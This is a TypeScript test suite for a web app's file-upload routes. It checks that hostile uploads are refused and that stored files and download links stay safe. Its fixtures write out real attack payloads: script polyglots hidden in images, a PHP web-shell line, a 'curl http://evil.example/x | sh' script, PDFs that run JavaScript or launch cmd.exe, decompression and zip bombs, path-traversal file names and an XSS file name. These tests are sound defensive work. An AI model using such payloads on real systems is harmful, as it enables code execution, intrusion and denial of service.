import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AVATAR_MAX_BYTES, VERIFICATION_MAX_BYTES } from '@bourse/contract';
import { createTestUser, type TestUser } from './helpers/factories.ts';
import { files, zip } from './helpers/files.ts';
import { startTestServer, type TestServer } from './helpers/test-server.ts';

let server: TestServer;
let admin: TestUser;
let real: { png: Buffer; jpeg: Buffer; gif: Buffer; webp: Buffer };

beforeAll(async () => {
  server = await startTestServer();
  admin = await createTestUser(server, { role: 'admin' });
  const picture = () => sharp({ create: { width: 24, height: 16, channels: 3, background: '#2266aa' } });
  real = { png: await picture().png().toBuffer(), jpeg: await picture().jpeg().toBuffer(), gif: await picture().gif().toBuffer(), webp: await picture().webp().toBuffer() };
});
afterAll(() => server.close());

/** A PNG chunk with its CRC. */
function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, 'latin1'), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** The PNG with `extra` chunks right after IHDR. */
function pngWith(png: Buffer, ...extra: Buffer[]): Buffer {
  return Buffer.concat([png.subarray(0, 33), ...extra, png.subarray(33)]);
}

/** A PNG whose header declares width × height while its data is a few bytes: a decompression bomb. */
function pngBomb(png: Buffer, side: number): Buffer {
  const ihdr = Buffer.from(png.subarray(16, 29));
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', ihdr), chunk('IDAT', deflateRawSync(Buffer.alloc(4096))), chunk('IEND', Buffer.alloc(0))]);
}

/** A Word file carrying a deflated entry of `mb` MB of zeros: a few kB that unpack to far more. */
function docxBomb(mb: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(mb * 1024 * 1024));
  const name = 'word/media/image1.bin';
  const types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
  const out = zip([
    { name: '[Content_Types].xml', content: types },
    { name: 'word/document.xml', content: '<?xml version="1.0"?><root/>' },
    { name, content: packed },
  ]);
  // Mark the last entry deflated with its real unpacked size, in the local header and the directory.
  const local = out.indexOf(Buffer.from(name)) - 30;
  out.writeUInt16LE(8, local + 8);
  out.writeUInt32LE(mb * 1024 * 1024, local + 22);
  const central = out.lastIndexOf(Buffer.from(name)) - 46;
  out.writeUInt16LE(8, central + 10);
  out.writeUInt32LE(mb * 1024 * 1024, central + 24);
  return out;
}

/** The JPEG with a comment segment right after its start marker. */
function jpegWithComment(jpeg: Buffer, text: string): Buffer {
  const body = Buffer.from(text, 'latin1');
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]);
}

const html = Buffer.from('<html><body><script>window.__xss=1;alert(document.cookie)</script></body></html>');

let hostileFiles: [string, Buffer][] | undefined;
/** Every hostile file, by what it is; each is refused by every upload route. */
function hostile(): [string, Buffer][] {
  return (hostileFiles ??= [
    ['a real PNG followed by an HTML page', Buffer.concat([real.png, html])],
    ['a PNG whose text chunk holds a script', pngWith(real.png, chunk('tEXt', Buffer.from('Comment\0<script>window.__xss=1</script>')))],
    ['a GIF/JavaScript polyglot', Buffer.concat([Buffer.from('GIF89a/*'), real.gif.subarray(8), Buffer.from('*/=window.__xss=1;')])],
    ['a real GIF followed by script', Buffer.concat([real.gif, Buffer.from('<script>window.__xss=1</script>')])],
    ['a JPEG whose comment holds an HTML page', jpegWithComment(real.jpeg, '<!DOCTYPE html><script>window.__xss=1</script>')],
    ['a real JPEG followed by a PHP script', Buffer.concat([real.jpeg, Buffer.from('<?php system($_GET["c"]); ?>')])],
    ['a real WebP followed by an HTML page', Buffer.concat([real.webp, html])],
    ['a PNG declaring 100,000 × 100,000 pixels', pngBomb(real.png, 100_000)],
    ['a truncated PNG', real.png.subarray(0, real.png.length - 20)],
    ['an ELF executable', files.elf],
    ['a Windows executable', files.exe],
    ['a shell script', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n')],
    ['an SVG with a script', files.svg],
    ['an SVG with an XML prolog', files.xmlSvg],
    ['an HTML page', files.html],
    ['a PDF with JavaScript', Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n')],
    ['a PDF launching a program', Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n')],
    ['a zip bomb dressed as a Word file', docxBomb(40)],
  ]);
}

type Route = { name: string; send: (content: Buffer, fileName: string, type?: string) => Promise<{ status: number; body: Record<string, unknown> }>; max: number; area: string };

async function post(token: string, url: string, fields: Record<string, string>, content: Buffer, fileName: string, type = 'application/octet-stream') {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  form.append('file', new Blob([new Uint8Array(content)], { type }), fileName);
  const res = await fetch(`${server.url}/api/v1${url}`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

/** Each route sends as a fresh user so per-user upload rate limits never mask an answer. */
const routes: Route[] = [
  { name: 'chat (customer)', area: 'chat', max: 10 * 1024 * 1024, send: async (c, n, t) => post((await createTestUser(server)).token, '/chat/upload', {}, c, n, t) },
  {
    name: 'chat (admin to a customer)',
    area: 'chat',
    max: 10 * 1024 * 1024,
    send: async (c, n, t) => post((await createTestUser(server, { role: 'admin' })).token, `/chat/upload?customer_id=${(await createTestUser(server)).id}`, {}, c, n, t),
  },
  { name: 'verification document', area: 'verification', max: VERIFICATION_MAX_BYTES, send: async (c, n, t) => post((await createTestUser(server)).token, '/verification/documents', { kind: 'id_front' }, c, n, t) },
  { name: 'avatar', area: 'avatars', max: AVATAR_MAX_BYTES, send: async (c, n, t) => post((await createTestUser(server)).token, '/user/avatar', {}, c, n, t) },
  { name: 'catalogue image', area: 'marketplace', max: 10 * 1024 * 1024, send: (c, n, t) => post(admin.token, '/admin/marketplace/images', {}, c, n, t) },
];

/** Every file under the data directory, relative to it. */
async function allFiles(): Promise<string[]> {
  const root = server.ctx.config.dataDir;
  const found = await readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
  return found.filter((d) => d.isFile()).map((d) => path.relative(root, path.join(d.parentPath, d.name))).sort();
}

describe.each(routes)('uploads to $name', (route) => {
  it('accept a real picture, stored under a random name in its own folder', async () => {
    const before = new Set(await allFiles());
    const res = await route.send(real.png, 'photo.png', 'image/png');
    expect(res.status).toBe(201);
    const added = (await allFiles()).filter((f) => !before.has(f));
    expect(added).toHaveLength(1);
    expect(added[0]).toMatch(new RegExp(`^uploads/${route.area}/[0-9a-f]{32}\\.(png|webp)$`));
  });

  it('refuse every hostile file with a 422 whatever its name and declared type, writing nothing', async () => {
    const before = await allFiles();
    for (const [what, content] of hostile()) {
      for (const [name, type] of [['photo.png', 'image/png'], ['scan.pdf', 'application/pdf']]) {
        const res = await route.send(content, name!, type);
        expect(res.status, `${what} as ${name}`).toBe(422);
        expect(JSON.stringify(res.body), what).not.toMatch(/stack|sharp|vips|\/uploads|node_modules/i);
      }
    }
    expect(await allFiles()).toEqual(before);
  });

  it('refuse a file over the limit with 413, writing nothing', async () => {
    const before = await allFiles();
    const big = Buffer.concat([real.png, Buffer.alloc(route.max + 1 - real.png.length)]);
    expect((await route.send(big, 'big.png', 'image/png')).status).toBe(413);
    expect(await allFiles()).toEqual(before);
  });

  it('never let the file name choose where the file goes', async () => {
    for (const name of ['../../etc/passwd.png', '..\\..\\windows\\win.ini.png', '/etc/cron.d/x.png', 'nul\0byte.png', `${'a'.repeat(5000)}.png`, '%2e%2e%2f%2e%2e%2fescape.png']) {
      const before = new Set(await allFiles());
      const res = await route.send(real.png, name, 'image/png');
      expect(res.status, name).toBeLessThan(500);
      const added = (await allFiles()).filter((f) => !before.has(f));
      for (const file of added) expect(file, name).toMatch(new RegExp(`^uploads/${route.area}/[0-9a-f]{32}\\.(png|webp)$`));
      if (typeof res.body.file_name === 'string') {
        expect(res.body.file_name).not.toMatch(/[/\\\0]/);
        expect(res.body.file_name.length).toBeLessThanOrEqual(155);
      }
    }
  });
});

describe('chat downloads of what was accepted', () => {
  it('go only through signed expiring links, as attachments with nosniff and a closed CSP', async () => {
    const customer = await createTestUser(server);
    const up = await post(customer.token, '/chat/upload', {}, real.png, '<img src=x onerror=alert(1)>.png', 'image/png');
    expect(up.status).toBe(201);
    const url = up.body.url as string;
    expect(url).toMatch(/\?expires=\d+&signature=[\w-]+$/);
    const got = await fetch(`${server.url}${url}`);
    expect(got.status).toBe(200);
    expect(got.headers.get('content-type')).toBe('image/png');
    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
    expect(got.headers.get('content-disposition')).toMatch(/^attachment; /);
    expect(got.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    await got.arrayBuffer();
    const bare = url.split('?')[0]!;
    const unsigned = await fetch(`${server.url}${bare}`);
    expect(unsigned.status).toBe(401);
    await unsigned.arrayBuffer();
    const expired = await fetch(`${server.url}${bare}?expires=${Math.floor(Date.now() / 1000) - 1}&signature=${new URL(url, 'http://x').searchParams.get('signature')}`);
    expect(expired.status).toBe(403);
    await expired.arrayBuffer();
  });
});
